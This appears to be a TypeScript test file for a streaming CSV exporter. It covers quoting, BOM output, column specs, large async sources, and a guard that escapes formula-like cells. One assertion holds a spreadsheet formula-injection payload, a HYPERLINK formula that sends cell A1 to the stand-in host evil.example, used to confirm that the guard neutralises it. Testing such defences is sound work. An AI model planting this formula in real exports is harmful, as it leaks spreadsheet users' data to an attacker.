import { test } from 'node:test';
import assert from 'node:assert/strict';
import Papa from 'papaparse';
import { csvChunks, csvReadable } from './csv.ts';
import { TEST_COLUMNS, TRICKY_STRINGS, collect, columnKind, seededRows, seededRowsAsync } from '../../../test/support/export/rows.ts';

/** Parses our CSV (CRLF records, last one terminated) back into rows of strings. */
function parseCsv(text: string): string[][] {
  assert.ok(text.endsWith('\r\n'), 'the last record ends with CRLF');
  const result = Papa.parse<string[]>(text.slice(0, -2), { header: false, newline: '\r\n', skipEmptyLines: false });
  assert.deepEqual(result.errors, []);
  return result.data;
}

async function csvText<Row>(rows: Iterable<Row> | AsyncIterable<Row>, options: Parameters<typeof csvChunks<Row>>[1]): Promise<string> {
  return (await collect(csvChunks(rows, options))).toString('utf8');
}

/** What a text cell must read back as: well-formed, and `'`-prefixed when it starts like a formula. */
function expectedText(text: string): string {
  const s = text.toWellFormed();
  return /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
}

test('tricky strings survive a papaparse round trip, formula-like ones escaped', async () => {
  const rows = TRICKY_STRINGS.map((s, i) => ({ id: i, text: s }));
  const parsed = parseCsv(await csvText(rows, { columns: ['id', 'text'] }));
  assert.deepEqual(parsed[0], ['id', 'text']);
  assert.equal(parsed.length, rows.length + 1);
  for (const [i, s] of TRICKY_STRINGS.entries()) {
    assert.deepEqual(parsed[i + 1], [String(i), expectedText(s)], `row for ${JSON.stringify(s)}`);
  }
  const hyperlink = parsed.find((r) => r[1].includes('HYPERLINK'));
  assert.equal(hyperlink?.[1], `'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
  // Lone surrogates cannot be encoded in UTF-8: they become U+FFFD rather than disappearing.
  assert.ok(parsed.some((r) => r[1] === 'lone high \uFFFD surrogate'));
});

test('a negative number is data, a string starting with "-" is escaped', async () => {
  const rows = [{ n: -5, s: '-5', b: -12n, d: 1.5e-7, e: '+5', f: '@x' }];
  const parsed = parseCsv(await csvText(rows, { columns: ['n', 's', 'b', 'd', 'e', 'f'] }));
  assert.deepEqual(parsed[1], ['-5', "'-5", '-12', '1.5e-7', "'+5", "'@x"]);
});

test('formula guard can be switched off; header row can be omitted; BOM only on request', async () => {
  const rows = [{ a: '=1+1' }];
  const guarded = await csvText(rows, { columns: ['a'] });
  assert.equal(guarded, "a\r\n'=1+1\r\n");
  assert.equal(await csvText(rows, { columns: ['a'], formulaGuard: false }), 'a\r\n=1+1\r\n');
  assert.equal(await csvText(rows, { columns: ['a'], header: false }), "'=1+1\r\n");
  const withBom = await collect(csvChunks(rows, { columns: ['a'], bom: true }));
  assert.deepEqual([...withBom.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const withoutBom = await collect(csvChunks(rows, { columns: ['a'] }));
  assert.equal(withoutBom[0], 'a'.charCodeAt(0));
});

test('fields with a bare CR or LF are quoted (RFC 4180), others only when needed', async () => {
  const text = await csvText([{ a: 'x\ny', b: 'x\ry', c: 'p,q', d: 'plain', e: 'say "hi"' }], { columns: ['a', 'b', 'c', 'd', 'e'] });
  assert.equal(text, 'a,b,c,d,e\r\n"x\ny","x\ry","p,q",plain,"say ""hi"""\r\n');
});

test('column specs: header text, computed values, missing keys, nulls, lists, dates, booleans', async () => {
  const rows = [
    { id: 'r1', authors: ['Ann', 'Bo'], when: new Date('2024-05-06T07:08:09Z'), ok: true, n: null },
    { id: 'r2', authors: [], when: new Date(Number.NaN), ok: false, n: Number.NaN },
  ];
  const parsed = parseCsv(
    await csvText(rows, {
      columns: [
        { key: 'id', header: 'Record ID' },
        'authors',
        'when',
        'ok',
        'n',
        'absent',
        { key: 'upper', value: (row: (typeof rows)[number]) => row.id.toUpperCase() },
      ],
    }),
  );
  assert.deepEqual(parsed, [
    ['Record ID', 'authors', 'when', 'ok', 'n', 'absent', 'upper'],
    ['r1', 'Ann; Bo', '2024-05-06T07:08:09.000Z', 'true', '', '', 'R1'],
    ['r2', '', '', 'false', '', '', 'R2'],
  ]);
});

test('10,000 rows x 16 columns from an async source: counted and equal cell by cell', async () => {
  let finished: { rows: number } | undefined;
  const chunks: Buffer[] = [];
  for await (const chunk of csvChunks(seededRowsAsync(10_000, 'csv-10k'), { columns: TEST_COLUMNS, onFinish: (s) => (finished = s) })) {
    chunks.push(chunk);
  }
  assert.ok(chunks.length > 10, `output arrives in many chunks (${chunks.length}), not as one block`);
  assert.ok(Math.max(...chunks.map((c) => c.length)) < 1024 * 1024, 'no chunk reaches 1 MiB');
  assert.deepEqual(finished, { rows: 10_000 });

  const parsed = parseCsv(Buffer.concat(chunks).toString('utf8'));
  assert.equal(parsed.length, 10_001);
  assert.deepEqual(parsed[0], TEST_COLUMNS);
  let i = 0;
  for (const row of seededRows(10_000, 'csv-10k')) {
    const got = parsed[++i];
    assert.equal(got.length, 16);
    TEST_COLUMNS.forEach((key, c) => {
      const value = row[key];
      let expected: string;
      switch (columnKind(c)) {
        case 'number':
          expected = String(value);
          break;
        case 'boolean':
          expected = value ? 'true' : 'false';
          break;
        case 'date':
          expected = (value as Date).toISOString();
          break;
        case 'list':
          expected = (value as string[]).join('; ');
          break;
        default:
          expected = value === null ? '' : expectedText(value as string);
      }
      assert.equal(got[c], expected, `row ${i} ${key}`);
    });
  }
});

test('an error in the row source fails the stream; stopping early closes the source', async () => {
  async function* failing(): AsyncGenerator<{ a: number }> {
    for (let i = 0; i < 10; i++) yield { a: i };
    throw new Error('cursor lost');
  }
  await assert.rejects(collect(csvChunks(failing(), { columns: ['a'] })), /cursor lost/);

  let closed = false;
  async function* endless(): AsyncGenerator<{ a: string }> {
    try {
      for (let i = 0; ; i++) yield { a: 'x'.repeat(100) + i };
    } finally {
      closed = true;
    }
  }
  const stream = csvReadable(endless(), { columns: ['a'] });
  for await (const chunk of stream) {
    assert.ok((chunk as Buffer).length > 0);
    break; // the client went away
  }
  // Readable.from releases its iterator while the stream is being destroyed.
  if (!stream.closed) await new Promise((resolve) => stream.once('close', resolve));
  assert.equal(closed, true, 'the source generator was returned (a database cursor would be released)');
});
